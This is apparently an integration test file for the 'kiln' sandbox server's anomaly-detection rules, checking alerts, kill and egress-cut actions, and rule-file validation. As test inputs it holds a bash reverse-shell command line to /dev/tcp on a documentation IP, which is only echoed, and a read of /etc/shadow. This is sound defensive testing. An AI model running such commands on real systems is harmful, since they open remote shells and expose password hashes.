"""Anomaly detection end to end, through the real e2b SDK and real gVisor sandboxes: one
`kiln serve --rules FILE` (the built-in pack plus rules whose actions are `kill` and
`deny-network`); attack-like command lines raise exactly the expected alerts within seconds
(stored, in `GET /events`, on the sandbox's audit chain with the triggering record's id,
counted in /metrics, found again by `kiln audit scan`); the kill rule kills its sandbox, the
deny-network rule cuts its egress; ordinary work raises nothing; `kiln rules check` names
the line, column and reason of a bad file."""

import json
import os
import shutil
import subprocess
import tempfile
import time
import urllib.request

import pytest
from e2b import Sandbox

from .conftest import KilnServer, cleanup_state, kiln_bin
from .rules_support import alerts

KILL_RULE = """
- rule: test_kill_marker
  desc: A command line carrying the test's marker; the sandbox is killed.
  condition: kind = process and event = start and args contains "kiln-rules-kill-me"
  output: "kill marker in %sandbox"
  priority: critical
  action: kill

- rule: test_cut_marker
  desc: A command line carrying the test's other marker; the sandbox's egress is cut.
  condition: kind = process and event = start and args contains "kiln-rules-cut-me"
  output: "cut marker in %sandbox"
  priority: error
  action: [alert, deny-network]
"""

TOKEN = "rules-metrics-token"


@pytest.fixture(scope="module")
def rules_server():
    base = tempfile.mkdtemp(prefix="kiln-rules-")
    pack = subprocess.run([kiln_bin(), "rules", "default"], capture_output=True, text=True, check=True).stdout
    path = os.path.join(base, "rules.yaml")
    with open(path, "w") as f:
        f.write(pack + KILL_RULE)
    srv = KilnServer(os.path.join(base, "state"), ["--rules", path, "--metrics-token", TOKEN])
    try:
        srv.start()
        assert "anomaly detection:" in srv.log()
        yield srv
    finally:
        srv.kill_all_sandboxes()
        srv.stop()
        log = srv.log()
        print("---- kiln serve log (tail) ----\n" + log[-6000:])
        cleanup_state(srv.state_dir)
        shutil.rmtree(base, ignore_errors=True)
        assert "panicked" not in log, log




def wait_alerts(srv, sandbox_id, n, timeout=10.0):
    deadline = time.time() + timeout
    while time.time() < deadline:
        got = alerts(srv, sandbox_id)
        if len(got) >= n:
            return got
        time.sleep(0.1)
    return alerts(srv, sandbox_id)


def audit(srv, sandbox_id):
    status, page, _ = srv.request("GET", f"/sandboxes/{sandbox_id}/audit?limit=1000")
    assert status == 200, page
    return page["records"]


def test_attacks_raise_exactly_the_expected_alerts(rules_server):
    srv = rules_server
    sbx = Sandbox.create(timeout=120, **srv.opts())
    try:
        t0 = time.time()
        # The command lines of a reverse shell and of a credential grab (the first never
        # connects anywhere: the line is only echoed).
        sbx.commands.run("echo 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' > /dev/null")
        sbx.commands.run("cat /etc/shadow > /dev/null 2>&1 || true")
        got = wait_alerts(srv, sbx.sandbox_id, 2)
        took = time.time() - t0
        assert sorted(a["rule"] for a in got) == ["read_shadow", "reverse_shell_dev_tcp"], got
        assert took < 10, took
        time.sleep(1.0)
        assert len(alerts(srv, sbx.sandbox_id)) == 2, "nothing more fires"
        by_rule = {a["rule"]: a for a in got}
        assert by_rule["reverse_shell_dev_tcp"]["priority"] == "critical"
        assert "/dev/tcp/198.51.100.7/4444" in by_rule["reverse_shell_dev_tcp"]["output"]

        # Each alert names the audit record that triggered it, and is on the sandbox's chain.
        recs = audit(srv, sbx.sandbox_id)
        by_cursor = {r["cursor"]: r for r in recs}
        for a in got:
            (trigger,) = a["records"]
            assert by_cursor[trigger]["kind"] == "process", by_cursor[trigger]
        on_chain = [r["body"] for r in recs if r["kind"] == "lifecycle" and r["body"].get("event") == "alert"]
        assert sorted(b["rule"] for b in on_chain) == ["read_shadow", "reverse_shell_dev_tcp"]
        assert {b["alertID"] for b in on_chain} == {a["id"] for a in got}

        # The events API (and so webhooks) carries them.
        status, ev, _ = srv.request("GET", f"/events?sandboxId={sbx.sandbox_id}&type=alert")
        assert status == 200, ev
        assert len(ev["events"]) == 2, ev
        assert any("reverse_shell_dev_tcp" in e["detail"] for e in ev["events"])

        # Filters: by rule and by priority.
        status, page, _ = srv.request("GET", f"/alerts?sandboxID={sbx.sandbox_id}&priority=critical")
        assert [a["rule"] for a in page["alerts"]] == ["reverse_shell_dev_tcp"]
        status, page, _ = srv.request("GET", "/alerts?rule=read_shadow")
        assert sbx.sandbox_id in {a["sandboxID"] for a in page["alerts"]}

        # Prometheus counts them by rule and priority.
        req = urllib.request.Request(srv.url + "/metrics", headers={"Authorization": f"Bearer {TOKEN}"})
        text = urllib.request.urlopen(req, timeout=30).read().decode()
        assert 'kiln_alerts_total{rule="reverse_shell_dev_tcp",priority="critical"}' in text
        # Nothing was left unevaluated (the engine kept up), and that is on record.
        assert "\nkiln_rules_records_dropped_total 0\n" in text, text
        assert sbx.is_running(), "an alert-only rule leaves the sandbox alone"

        # The stored records replayed through the built-in pack find the same two.
        env = {**os.environ, "KILN_URL": srv.url, "KILN_API_KEY": srv.api_key}
        r = subprocess.run([kiln_bin(), "audit", "scan", sbx.sandbox_id, "--rules", "builtin", "--json"],
                           capture_output=True, text=True, env=env, timeout=60)
        assert r.returncode == 1, r
        scanned = sorted(json.loads(line)["rule"] for line in r.stdout.splitlines())
        assert scanned == ["read_shadow", "reverse_shell_dev_tcp"], r.stdout
    finally:
        sbx.kill()


def test_a_kill_rule_kills_the_sandbox(rules_server):
    srv = rules_server
    sbx = Sandbox.create(timeout=120, **srv.opts())
    sid = sbx.sandbox_id
    try:
        try:
            sbx.commands.run("echo kiln-rules-kill-me; sleep 30", timeout=40)
        except Exception:
            pass  # the sandbox dies under the command
        deadline = time.time() + 15
        while time.time() < deadline:
            status, info, _ = srv.request("GET", f"/sandboxes/{sid}")
            if status == 404:
                break
            time.sleep(0.1)
        assert status == 404, info
        got = alerts(srv, sid)
        assert [a["rule"] for a in got] == ["test_kill_marker"], got
        assert got[0]["actions"] == ["kill"]
        # The action's record follows the kill.
        deadline = time.time() + 5
        while True:
            actions = [r["body"] for r in audit(srv, sid)
                       if r["kind"] == "lifecycle" and r["body"].get("event") == "rule-action"]
            if actions or time.time() > deadline:
                break
            time.sleep(0.1)
        assert [(b["action"], b["result"]) for b in actions] == [("kill", "ok")], actions
        status, ev, _ = srv.request("GET", f"/events?sandboxId={sid}&type=killed")
        assert "rule test_kill_marker" in ev["events"][0]["detail"], ev
    finally:
        try:
            sbx.kill()
        except Exception:
            pass


def test_a_deny_network_rule_cuts_egress_and_the_sandbox_lives_on(rules_server):
    srv = rules_server
    sbx = Sandbox.create(timeout=120, **srv.opts())
    sid = sbx.sandbox_id
    try:
        status, info, _ = srv.request("GET", f"/sandboxes/{sid}")
        assert info["allowInternetAccess"] is True, info
        sbx.commands.run("echo kiln-rules-cut-me")
        deadline = time.time() + 10
        while time.time() < deadline:
            status, info, _ = srv.request("GET", f"/sandboxes/{sid}")
            if info.get("allowInternetAccess") is False:
                break
            time.sleep(0.1)
        assert info["allowInternetAccess"] is False, info
        assert [a["rule"] for a in alerts(srv, sid)] == ["test_cut_marker"]
        actions = [r["body"] for r in audit(srv, sid)
                   if r["kind"] == "lifecycle" and r["body"].get("event") == "rule-action"]
        assert [(b["action"], b["result"]) for b in actions] == [("deny-network", "ok")], actions
        assert sbx.commands.run("echo alive").stdout.strip() == "alive"
    finally:
        sbx.kill()


def test_ordinary_work_raises_no_alert(rules_server):
    srv = rules_server
    sbx = Sandbox.create(timeout=180, **srv.opts())
    try:
        sbx.commands.run("python3 -c 'import json, os; print(json.dumps(dict(a=os.getpid())))'")
        sbx.commands.run("cd /tmp && mkdir -p proj && cd proj && (command -v git >/dev/null && git init -q . || true)")
        sbx.files.write("/home/user/hello.c", "int main(void) { return 0; }\n")
        sbx.commands.run("cd /home/user && if command -v cc >/dev/null; then cc -O2 -o hello hello.c && ./hello; "
                         "else printf 'print(1)\\n' > hello.py && python3 -m py_compile hello.py; fi")
        sbx.commands.run("cd /home/user && printf 'all:\\n\\t@echo built\\n' > Makefile && (command -v make >/dev/null && make || true)")
        sbx.commands.run("sudo true || true")
        sbx.commands.run("cd /tmp && python3 -m http.server 8000 --bind 0.0.0.0", background=True, timeout=0)
        body = b""
        deadline = time.time() + 20
        while time.time() < deadline:
            req = urllib.request.Request(srv.url + "/", headers={
                "E2b-Sandbox-Id": sbx.sandbox_id, "E2b-Sandbox-Port": "8000"})
            try:
                body = urllib.request.urlopen(req, timeout=10).read()
                break
            except Exception:
                time.sleep(0.2)
        assert b"proj" in body, body
        assert sbx.files.read("/home/user/hello.c").startswith("int main")
        time.sleep(1.5)
        assert alerts(srv, sbx.sandbox_id) == []
    finally:
        sbx.kill()


def test_rules_check_names_line_and_reason(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("- rule: r\n  desc: d\n  output: o\n  priority: warning\n"
                   "  condition: kind = process and and args contains x\n")
    r = subprocess.run([kiln_bin(), "rules", "check", str(bad)], capture_output=True, text=True, timeout=30)
    assert r.returncode == 1, r
    assert f"{bad}:5:33: expected a field" in r.stderr, r.stderr
    good = tmp_path / "good.yaml"
    good.write_text(KILL_RULE)
    r = subprocess.run([kiln_bin(), "rules", "check", str(good)], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r
    assert "ok: 2 rules" in r.stdout
